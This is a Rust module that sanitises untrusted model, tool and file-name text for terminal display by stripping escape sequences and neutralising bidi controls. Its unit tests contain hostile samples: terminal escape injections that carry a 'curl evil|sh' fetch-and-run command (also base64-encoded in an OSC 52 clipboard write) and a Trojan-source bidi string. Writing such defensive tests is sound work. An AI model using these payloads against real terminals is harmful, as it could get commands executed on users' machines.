//! Text from a model, a tool, an MCP server or a file name is hostile: a raw escape sequence
//! could move the cursor, retitle the window, query the terminal (whose answer arrives as typed
//! input) or hide text. Everything the views draw goes through [`clean`] (or [`one_line`]) first.
//!
//! What [`clean`] does, per input:
//! - a complete escape sequence is removed whole: CSI (`ESC [ … final`), OSC (`ESC ] … BEL` or
//!   `… ESC \`), the DCS/SOS/PM/APC strings (`ESC P`, `ESC X`, `ESC ^`, `ESC _`, ended by ST or
//!   BEL), the other two-byte and `ESC <intermediates> <final>` forms, and the 8-bit C1
//!   introducers U+009B (CSI), U+009D (OSC), U+0090/U+0098/U+009E/U+009F (strings);
//! - an escape sequence that never ends (cut off, or interrupted by a character that cannot be
//!   part of it) is *not* a licence to swallow the rest of the text: only its introducer is
//!   replaced, by `␛` (ESC) or `�` (an 8-bit introducer), and what follows is shown, cleaned;
//! - any other C0 control and DEL become their Unicode Control Picture (`␀`, `␇`, `␛`, `␡`…),
//!   so they are visible and unambiguous; `\n` stays;
//! - any other C1 control (U+0080–U+009F) becomes `�`;
//! - `\t` becomes spaces up to the next 4-column tab stop, `\r` is dropped (so `\r\n` is `\n`);
//! - the bidi controls U+202A–U+202E, U+2066–U+2069, U+200E, U+200F and U+061C become `�`: they
//!   reorder what is displayed, which is how "Trojan source" hides code from a reviewer.

use std::borrow::Cow;

use unicode_width::UnicodeWidthChar;

/// Tab stops every this many columns.
pub const TAB_WIDTH: usize = 4;
/// What an unterminated 8-bit introducer, another C1 control or a bidi control becomes.
pub const MARKER: char = '\u{FFFD}';
/// How [`one_line`] shows a newline.
pub const NEWLINE_MARKER: char = '⏎';
/// How a cut is shown.
pub const ELLIPSIS: char = '…';

const ESC: char = '\u{1b}';
const BEL: char = '\u{07}';
const ST: char = '\u{9c}';

/// True for the characters [`clean`] has to act on; everything else is copied as it is.
fn needs_work(c: char) -> bool {
    matches!(
        c,
        '\0'..='\u{09}' | '\u{0b}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}'
    )
}

/// Whether `s` would come back from [`clean`] unchanged.
pub fn is_clean(s: &str) -> bool {
    !s.contains(needs_work)
}

/// `s` with escape sequences removed and every other control made visible (see the module
/// docs for the exact rules). Borrowed when there was nothing to do.
pub fn clean(s: &str) -> Cow<'_, str> {
    let Some(first) = s.find(needs_work) else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 16);
    out.push_str(&s[..first]);
    // The display column, for tab stops.
    let mut col = s[..first]
        .rsplit('\n')
        .next()
        .map_or(0, |l| l.chars().map(char_width).sum());
    let mut i = first;
    while let Some(c) = s[i..].chars().next() {
        let next = i + c.len_utf8();
        match c {
            '\n' => {
                out.push('\n');
                col = 0;
                i = next;
            }
            '\t' => {
                let spaces = TAB_WIDTH - col % TAB_WIDTH;
                out.extend(std::iter::repeat_n(' ', spaces));
                col += spaces;
                i = next;
            }
            '\r' => i = next,
            ESC | '\u{9b}' | '\u{9d}' | '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => {
                match sequence_end(s, i, c) {
                    Some(end) => i = end,
                    None => {
                        // Not a (complete) sequence: show the introducer, keep the rest.
                        out.push(if c == ESC { '\u{241b}' } else { MARKER });
                        col += 1;
                        i = next;
                    }
                }
            }
            c if needs_work(c) => {
                out.push(visible(c));
                col += 1;
                i = next;
            }
            c => {
                out.push(c);
                col += char_width(c);
                i = next;
            }
        }
    }
    Cow::Owned(out)
}

/// The one-character visible form of a control character [`clean`] does not remove.
fn visible(c: char) -> char {
    match c {
        // The Control Pictures block mirrors C0: U+2400 + the code.
        '\0'..='\u{1f}' => char::from_u32(0x2400 + c as u32).unwrap_or(MARKER),
        '\u{7f}' => '\u{2421}',
        _ => MARKER,
    }
}

fn char_width(c: char) -> usize {
    c.width().unwrap_or(0)
}

/// Where the escape sequence introduced by `intro` at byte `i` ends (exclusive), or `None` if
/// what starts there is not a complete sequence.
fn sequence_end(s: &str, i: usize, intro: char) -> Option<usize> {
    let b = s.as_bytes();
    let after = i + intro.len_utf8();
    match intro {
        ESC => {
            let &n = b.get(after)?;
            match n {
                b'[' => csi_end(b, after + 1),
                b']' | b'P' | b'X' | b'^' | b'_' => string_end(s, after + 1),
                // nF: intermediates, then one final byte (e.g. `ESC ( B`, `ESC # 8`).
                0x20..=0x2f => {
                    let mut k = after + 1;
                    while b.get(k).is_some_and(|x| (0x20..=0x2f).contains(x)) {
                        k += 1;
                    }
                    b.get(k).is_some_and(|x| (0x30..=0x7e).contains(x)).then_some(k + 1)
                }
                // Fp/Fe/Fs: one byte (`ESC 7`, `ESC c`, `ESC M`…).
                0x30..=0x7e => Some(after + 1),
                _ => None,
            }
        }
        '\u{9b}' => csi_end(b, after),
        _ => string_end(s, after),
    }
}

/// End of a CSI whose parameters start at byte `k`: parameter and intermediate bytes
/// (0x20–0x3F), then a final byte (0x40–0x7E). Anything else means it is not a CSI.
fn csi_end(b: &[u8], mut k: usize) -> Option<usize> {
    while let Some(&x) = b.get(k) {
        match x {
            0x40..=0x7e => return Some(k + 1),
            0x20..=0x3f => k += 1,
            _ => return None,
        }
    }
    None
}

/// End of a control string (OSC, DCS, SOS, PM, APC) whose body starts at byte `k`: BEL, ST
/// (`ESC \` or U+009C) ends it; any other ESC ends it too (terminals abort the string there)
/// and is then read as the start of the next sequence.
fn string_end(s: &str, k: usize) -> Option<usize> {
    let rest = s.get(k..)?;
    for (j, c) in rest.char_indices() {
        match c {
            BEL => return Some(k + j + 1),
            ST => return Some(k + j + ST.len_utf8()),
            ESC => {
                return Some(if rest.as_bytes().get(j + 1) == Some(&b'\\') {
                    k + j + 2
                } else {
                    k + j
                });
            }
            _ => {}
        }
    }
    None
}

/// `s` cleaned and on one line — newlines shown as `⏎` (trailing ones dropped) — and cut to
/// `max_width` display columns, ending in `…` when cut. For names, arguments, titles.
pub fn one_line(s: &str, max_width: usize) -> String {
    let cleaned = clean(s);
    let trimmed = cleaned.trim_end_matches('\n');
    let joined: Cow<'_, str> = if trimmed.contains('\n') {
        Cow::Owned(trimmed.replace('\n', NEWLINE_MARKER.encode_utf8(&mut [0; 4])))
    } else {
        Cow::Borrowed(trimmed)
    };
    truncate(&joined, max_width)
}

/// `s` (already clean, one line) cut to `max_width` display columns, ending in `…` when cut.
pub fn truncate(s: &str, max_width: usize) -> String {
    if crate::wrap::display_width(s) <= max_width {
        return s.to_owned();
    }
    if max_width == 0 {
        return String::new();
    }
    let budget = max_width - 1; // room for the ellipsis
    let mut out = String::new();
    let mut used = 0;
    for (cluster, w) in crate::wrap::clusters(s) {
        if used + w > budget {
            break;
        }
        out.push_str(cluster);
        used += w;
    }
    out.push(ELLIPSIS);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// No ESC, no C0 but `\n`, no DEL, no C1, no bidi control.
    fn assert_inert(s: &str) {
        for c in s.chars() {
            assert!(c == '\n' || !needs_work(c), "control {:?} survived in {s:?}", c);
        }
    }

    #[test]
    fn plain_text_is_borrowed() {
        for s in ["", "hello", "a\nb\n", "héllo 世界 🎉", "⏎…"] {
            assert!(matches!(clean(s), Cow::Borrowed(_)), "{s:?}");
            assert!(is_clean(s));
        }
    }

    #[test]
    fn osc_title_is_removed_whole() {
        assert_eq!(clean("a\x1b]0;pwned\x07b"), "ab");
        assert_eq!(clean("a\x1b]0;pwned\x1b\\b"), "ab");
        assert_eq!(clean("a\u{9d}0;pwned\u{9c}b"), "ab");
        // OSC 52: write the clipboard.
        assert_eq!(clean("a\x1b]52;c;Y3VybCBldmlsfHNo\x07b"), "ab");
        // OSC 8 hyperlink: the text stays, the link goes.
        assert_eq!(clean("\x1b]8;;https://evil\x1b\\click\x1b]8;;\x1b\\"), "click");
    }

    #[test]
    fn csi_sequences_are_removed_whole() {
        assert_eq!(clean("x\x1b[2Jy"), "xy");
        assert_eq!(clean("x\x1b[6ny"), "xy"); // cursor position report: an answer as input
        assert_eq!(clean("\x1b[1;31mred\x1b[0m"), "red");
        assert_eq!(clean("\u{9b}31mred"), "red");
        assert_eq!(clean("a\x1b[?1049hb"), "ab");
        assert_eq!(clean("a\x1b[>0;1;2 qb"), "ab");
    }

    #[test]
    fn dcs_apc_pm_sos_are_removed_whole() {
        assert_eq!(clean("a\x1bP+q544e\x1b\\b"), "ab"); // XTGETTCAP
        assert_eq!(clean("a\x1b_Gf=100;AAAA\x1b\\b"), "ab"); // kitty graphics
        assert_eq!(clean("a\x1b^pm\x1b\\b"), "ab");
        assert_eq!(clean("a\x1bXsos\x1b\\b"), "ab");
        assert_eq!(clean("a\u{90}dcs\u{9c}b"), "ab");
    }

    #[test]
    fn short_escapes_are_removed() {
        assert_eq!(clean("a\x1bcb"), "ab"); // RIS, full reset
        assert_eq!(clean("a\x1b7\x1b8b"), "ab");
        assert_eq!(clean("a\x1b(Bb"), "ab");
        assert_eq!(clean("a\x1b#8b"), "ab");
    }

    #[test]
    fn tiocsti_looking_bytes_are_inert() {
        // What a payload that tries to make the terminal type a command looks like: a DECRQSS /
        // title report request (answered as input), then the command with a carriage return.
        let attack = "\x1bP$q\"p\x1b\\\x1b[21t\x1b]2;;curl evil|sh\x07\x1b[20t\rcurl evil|sh\r\n\x1b[c";
        let out = clean(attack);
        assert_inert(&out);
        assert_eq!(out, "curl evil|sh\n");
    }

    #[test]
    fn bidi_controls_are_visible() {
        let trojan = "if access_level != \"user\u{202E} \u{2066}// Check if admin\u{2069} \u{2066}\" {";
        let out = clean(trojan);
        assert_inert(&out);
        assert_eq!(out.matches(MARKER).count(), 4);
        for c in [
            '\u{202a}', '\u{202d}', '\u{2067}', '\u{2068}', '\u{200e}', '\u{200f}', '\u{61c}',
        ] {
            assert_eq!(clean(&format!("a{c}b")), format!("a{MARKER}b"));
        }
    }

    #[test]
    fn other_controls_are_visible() {
        assert_eq!(clean("a\0b"), "a␀b");
        assert_eq!(clean("a\x7fb"), "a␡b");
        assert_eq!(clean("a\x07b"), "a␇b");
        assert_eq!(clean("a\x08b"), "a␈b");
        assert_eq!(clean("a\u{85}b"), format!("a{MARKER}b"));
        assert_eq!(clean("a\u{9c}b"), format!("a{MARKER}b")); // a stray ST
    }

    #[test]
    fn unterminated_sequences_hide_nothing() {
        assert_eq!(clean("a\x1b]0;title and the rest"), "a␛]0;title and the rest");
        assert_eq!(clean("a\x1b[31"), "a␛[31");
        assert_eq!(clean("end\x1b"), "end␛");
        assert_eq!(clean("a\u{9b}31"), format!("a{MARKER}31"));
        // A CSI interrupted by a newline is not a CSI.
        assert_eq!(clean("a\x1b[3\nb"), "a␛[3\nb");
        // An OSC aborted by the next sequence: both go.
        assert_eq!(clean("a\x1b]0;x\x1b[2Jb"), "ab");
    }

    #[test]
    fn tabs_and_carriage_returns() {
        assert_eq!(clean("\tx"), "    x");
        assert_eq!(clean("ab\tx"), "ab  x");
        assert_eq!(clean("abcd\tx"), "abcd    x");
        assert_eq!(clean("a\nb\tx"), "a\nb   x");
        assert_eq!(clean("世\tx"), "世  x"); // the wide char takes two columns
        assert_eq!(clean("a\r\nb\r\n"), "a\nb\n");
        assert_eq!(clean("10%\r20%"), "10%20%");
    }

    #[test]
    fn one_line_joins_and_cuts() {
        assert_eq!(one_line("a\nb\n\n", 10), "a⏎b");
        assert_eq!(one_line("hello world", 5), "hell…");
        assert_eq!(one_line("hello", 5), "hello");
        assert_eq!(one_line("hello", 0), "");
        assert_eq!(one_line("hello", 1), "…");
        assert_eq!(one_line("世界世界", 5), "世界…");
        assert_eq!(one_line("世界世界", 4), "世…");
        assert_eq!(one_line("\x1b]0;x\x07name\x1b[2J", 20), "name");
        let cut = one_line("e\u{301}e\u{301}e\u{301}", 2); // combining marks stay with their base
        assert_eq!(cut, "e\u{301}…");
    }

    #[test]
    fn random_bytes_never_leave_a_control() {
        let mut rng = crate::wrap::tests::Rng(0x9e37_79b9_7f4a_7c15);
        // Bytes biased towards the interesting ones.
        let alphabet: &[&str] = &[
            "\x1b", "[", "]", "P", "_", "^", "X", "\\", "\x07", "\u{9b}", "\u{9c}", "\u{9d}", "\u{90}", "0", ";", "m",
            "?", " ", "\n", "\r", "\t", "\0", "\x7f", "a", "世", "\u{202e}", "\u{301}", "(", "#",
        ];
        for _ in 0..20_000 {
            let len = rng.below(24);
            let s: String = (0..len).map(|_| alphabet[rng.below(alphabet.len())]).collect();
            let out = clean(&s);
            assert_inert(&out);
            assert!(is_clean(&out));
            // Idempotent: cleaning clean text changes nothing.
            assert_eq!(clean(&out), out);
            let line = one_line(&s, rng.below(12));
            assert_inert(&line);
            assert!(!line.contains('\n'));
        }
        for _ in 0..5_000 {
            let bytes: Vec<u8> = (0..rng.below(40)).map(|_| rng.below(256) as u8).collect();
            let s = String::from_utf8_lossy(&bytes);
            assert_inert(&clean(&s));
        }
    }
}
